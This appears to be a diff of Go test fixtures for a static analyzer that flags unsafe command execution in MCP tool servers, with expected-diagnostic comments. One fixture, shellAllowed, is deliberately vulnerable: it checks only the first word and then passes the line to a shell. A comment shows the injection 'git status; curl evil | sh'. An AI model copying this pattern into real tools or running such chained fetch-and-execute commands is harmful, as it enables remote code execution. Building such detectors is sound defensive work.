@@ -76,6 +76,54 @@ func (w *workspace) gitRaw(ctx context.Context, req mcp.CallToolRequest) (*mcp.C
 	return mcp.NewToolResultText(string(out)), nil
 }
 
+// programAllowed reports whether a command line's program, its first word,
+// is one of allowedTools: a check of the first word only.
+func programAllowed(line string) bool {
+	words := strings.Fields(line)
+	if len(words) == 0 {
+		return false
+	}
+	for _, name := range allowedTools {
+		if words[0] == name {
+			return true
+		}
+	}
+	return false
+}
+
+// runAllowed checks the line's program, then splits the line again and runs
+// its words without a shell: what runs is an allowed program.
+func (w *workspace) runAllowed(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_allowed mcp-go constant` `BR304: tool run_allowed can run processes with no rate limit` `BR305: tool run_allowed is not logged with its arguments`
+	line := req.GetString("command", "")
+	if !programAllowed(line) { // want `run_allowed: guard allowlist example\.com/mcp-go-confine\.programAllowed for exec os/exec\.CommandContext`
+		return mcp.NewToolResultError("program not allowed"), nil
+	}
+	return w.runWords(ctx, line)
+}
+
+func (w *workspace) runWords(ctx context.Context, line string) (*mcp.CallToolResult, error) {
+	words := strings.Fields(line)
+	out, err := exec.CommandContext(ctx, words[0], words[1:]...).Output() // want `run_allowed: exec os/exec\.CommandContext` `BR301: tool run_allowed can run processes through os/exec\.CommandContext with no confirmation before it`
+	if err != nil {
+		return mcp.NewToolResultError(err.Error()), nil
+	}
+	return mcp.NewToolResultText(string(out)), nil
+}
+
+// shellAllowed makes the same check, then hands the whole line to a shell:
+// "git status; curl evil | sh" passes it.
+func (w *workspace) shellAllowed(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool shell_allowed mcp-go constant` `BR304: tool shell_allowed can run processes with no rate limit` `BR305: tool shell_allowed is not logged with its arguments`
+	line := req.GetString("command", "")
+	if !programAllowed(line) {
+		return mcp.NewToolResultError("program not allowed"), nil
+	}
+	out, err := exec.CommandContext(ctx, "sh", "-c", line).Output() // want `shell_allowed: exec os/exec\.CommandContext \(tainted\)` `BR101: tool shell_allowed: model-controlled input reaches the command of os/exec\.CommandContext` `BR301: tool shell_allowed can run processes through os/exec\.CommandContext with no confirmation before it` `BR303: tool shell_allowed: a model-chosen command reaches os/exec\.CommandContext with no sandbox or allowlist`
+	if err != nil {
+		return mcp.NewToolResultError(err.Error()), nil
+	}
+	return mcp.NewToolResultText(string(out)), nil
+}
+
 // runSwitch runs one of three programs chosen by a switch.
 func (w *workspace) runSwitch(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_switch mcp-go constant` `BR304: tool run_switch can run processes with no rate limit` `BR305: tool run_switch is not logged with its arguments`
 	prog := req.GetString("program", "")
